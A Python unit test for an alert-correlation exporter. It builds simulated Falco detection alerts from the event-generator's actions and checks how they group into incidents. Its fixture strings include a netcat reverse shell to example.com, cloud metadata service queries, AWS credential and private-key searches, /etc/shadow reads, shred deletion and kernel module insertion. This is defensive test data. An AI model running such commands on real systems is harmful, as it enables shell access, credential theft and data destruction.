"""The event generator's system calls: one run is one incident, wherever it runs."""

from __future__ import annotations

import pytest

from exporter.alert import Alert, Priority
from exporter.catalog.shipped import ShippedCatalog
from exporter.incidents.batch import join_all
from exporter.incidents.tactics import tactics_by_rule
from tests.unit.incidents.made import BEGIN_NS

CATALOG = ShippedCatalog()
OWN = {"proc.name": "event-generator", "proc.cmdline": "event-generator run syscall", "proc.pname": "bash",
       "proc.exepath": "/usr/local/bin/event-generator"}  # fmt: skip


def child(name: str, line: str, path: str) -> dict[str, str]:
    """A program that the generator starts."""
    return {"proc.name": name, "proc.cmdline": line, "proc.exepath": path, "proc.pname": "event-generator"}


ACTIONS: dict[str, dict[str, str]] = {
    "Clear Log Activities": OWN | {"fd.name": "/tmp/falco-event-generator-syscall-ClearLogActivities-321/syslog"},
    "Read sensitive file untrusted": OWN | {"fd.name": "/etc/shadow"},
    "Write below etc": OWN | {"fd.name": "/etc/falco-event-generator-syscall-WriteBelowEtc-3821"},
    "Run shell untrusted": child("sh", "sh -c ls > /dev/null", "/usr/bin/dash")
    | {
        "proc.pname": "httpd",
        "proc.pcmdline": "httpd --loglevel info run ^helper.RunShell$",
        "proc.aname[2]": "event-generator",
    },
    "Search Private Keys or Passwords": child("find", "find / -maxdepth 1 -iname id_rsa", "/usr/bin/find"),
    "Execution from /dev/shm": child(
        "sh", "sh -c /dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-1.sh", "/usr/bin/dash"
    )
    | {"evt.res": "SUCCESS"},
    "Fileless execution via memfd_create": child("3", "3 run helper.DoNothing", "memfd:program")
    | {"evt.res": "SUCCESS"},
    "Detect release_agent File Container Escapes": OWN | {"fd.name": "/tmp/x/release_agent"},
    "PTRACE attached to process": OWN | {"evt.type": "ptrace"},
    "Create Symlink Over Sensitive Files": child("ln", "ln -s /etc /tmp/event-generator/etc_link", "/usr/bin/ln"),
    "Drop and execute new binary in container": child(
        "falco-event-gen",
        "falco-event-generator-syscall-Drop run helper.DoNothing",
        "/tmp/falco-event-generator-syscall-Drop",
    ),
    "Netcat Remote Code Execution in Container": child("nc", "nc -e /bin/sh example.com 22", "/bin/nc"),
    "Launch Ingress Remote File Copy Tools in Container": child(
        "curl", "curl -s http://example.com -o /tmp/x", "/usr/bin/curl"
    ),
    "System user interactive": child("login", "login daemon", "/usr/bin/login"),
    "Modify Shell Configuration File": OWN | {"fd.name": "/home/x/.bashrc"},
    "Schedule Cron Jobs": child("crontab", "crontab -l", "/usr/bin/crontab"),
    "Delete or rename shell history": OWN,
    "User mgmt binaries": child("vipw", "vipw", "/usr/sbin/vipw"),
    "Known Cryptominer Process Executed": child("echo", "echo -o stratum+tcp -u user -p pass", "/bin/echo"),
    "Set Setuid or Setgid bit": OWN,
}
ACTIONS |= {
    rule: child(line.split()[0], line, f"/usr/bin/{line.split()[0]}")
    for rule, line in {
        "Change namespace privileges via unshare": "unshare",
        "Change thread namespace": "nsenter -t 1 -m ls",
        "Contact EC2 Instance Metadata Service From Container": "curl -s http://169.254.169.254/latest/meta-data",
        "Contact cloud metadata service from container": "curl -s http://169.254.169.254/computeMetadata/v1",
        "Create Hardlink Over Sensitive Files": "ln -v /etc/shadow /tmp/shadow_link",
        "Debugfs Launched in Privileged Container": "debugfs -V",
        "Decoding Payload in Container": "bash -c echo ZWNobw== | base64 -d",
        "Detect crypto miners using the Stratum protocol": "echo -o stratum+tcp -u user -p pass",
        "Detect outbound connections to common miner pool ports": "nc -w 1 pool.example.org 3333",
        "Disallowed SSH Connection Non Standard Port": "ssh user@example.com -p 443",
        "Exfiltrating Artifacts via Kubernetes Control Plane": "tar cf - /tmp/x",
        "Find AWS Credentials": "find / -iname .aws/credentials",
        "Interpreted procs inbound network activity": "python3 -c import socket",
        "Interpreted procs outbound network activity": "perl -MIO::Socket",
        "Kubernetes Client Tool Launched in Container": "kubectl version",
        "Launch Package Management Process in Container": "apt-get",
        "Launch Remote File Copy Tools in Container": "rsync --version",
        "Launch Suspicious Network Tool in Container": "nmap --version",
        "Launch Suspicious Network Tool on Host": "nmap",
        "Linux Kernel Module Injection Detected": "insmod /tmp/x.ko",
        "Mount Launched in Privileged Container": "mount",
        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)": "pkexec",
        "Potential Local Privilege Escalation via Environment Variables Misuse": "su --help",
        "Program run with disallowed http proxy env": "curl -s http://localhost",
        "Redirect STDOUT/STDIN to Network Connection in Container": "bash",
        "Remove Bulk Data from Disk": "shred -u /tmp/x",
        "Sudo Potential Privilege Escalation": r"sudoedit -s \\",
    }.items()
}
ACTIONS |= {
    rule: OWN | ({"fd.name": path} if path else {})
    for rule, path in {
        "Adding ssh keys to authorized_keys": "/home/falco/.ssh/authorized_keys",
        "Container Drift Detected (chmod)": "",
        "Container Drift Detected (open+create)": "/tmp/x",
        "Create Hidden Files or Directories": "/tmp/.x",
        "Create files below dev": "/dev/falco-event-generator-syscall-CreateFilesBelowDev",
        "Directory traversal monitored file read": "/etc/shadow",
        "Mkdir binary dirs": "/bin/x",
        "Modify binary dirs": "/bin/true",
        "Modify Container Entrypoint": "/proc/self/exe",
        "Non sudo setuid": "",
        "PTRACE anti-debug attempt": "",
        "Packet socket created in container": "",
        "Read Shell Configuration File": "/root/.bashrc",
        "Read environment variable from /proc files": "/proc/self/environ",
        "Read ssh information": "/root/.ssh/known_hosts",
        "Unexpected UDP Traffic": "10.0.0.4:40000->203.0.113.9:53",
        "Unprivileged Delegation of Page Faults Handling to a Userspace Process": "",
        "Update Package Repository": "/etc/apt/sources.list.d/x.list",
        "Write below binary dir": "/bin/falco-event-generator-syscall-WriteBelowBinaryDir",
    }.items()
}
ACTIONS |= {
    # It starts itself again under another program's name.
    rule: child(name, f"{name} --loglevel info run ^helper", f"/tmp/falco-event-generator/{name}")
    for rule, name in {
        "DB program spawned process": "mysqld",
        "Java Process Class File Download": "java",
        "Read sensitive file trusted after startup": "httpd",
        "System procs network activity": "sha1sum",
    }.items()
}
PLACES = {
    "pod": {
        "container.id": "5138f37ab5ef", "container.name": "event-generator", "k8s.pod.name": "event-generator-x2kq4",
        "container.image.repository": "docker.io/falcosecurity/event-generator", "k8s.ns.name": "event-generator",
        "user.loginuid": "-1", "proc.tty": "0",
    },
    "session": {"container.id": "host", "user.loginuid": "1000", "proc.tty": "34816"},
    "login without a terminal": {"container.id": "host", "user.loginuid": "1000", "proc.tty": "0"},
    "daemon": {"container.id": "host", "user.loginuid": "-1", "proc.tty": "0"},
}  # fmt: skip


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("seconds", [0.001, 2, 45])
def test_a_run_of_all_actions_is_at_most_three_incidents(place: str, seconds: float) -> None:
    """Every kind of place ties what one run does, however long it sleeps; a pod's image makes it a test as a whole."""
    user = {"user.name": "root", "user.uid": "0"}
    alerts = [
        Alert(
            BEGIN_NS + int(number * seconds * 1e9),
            rule,
            Priority.NOTICE,
            "syscall",
            "node-1",
            rule,
            user | fields | PLACES[place],
            (),
        )
        for number, (rule, fields) in enumerate(ACTIONS.items())
    ]
    assert len(alerts) > 60
    found = join_all(alerts, 14_400, judge=CATALOG.judge.judge, tactics_of=tactics_by_rule(CATALOG))
    assert 1 <= len(found) <= 3
    if place == "pod":
        assert [(each.verdict, each.count) for each in found] == [("test", len(ACTIONS))]
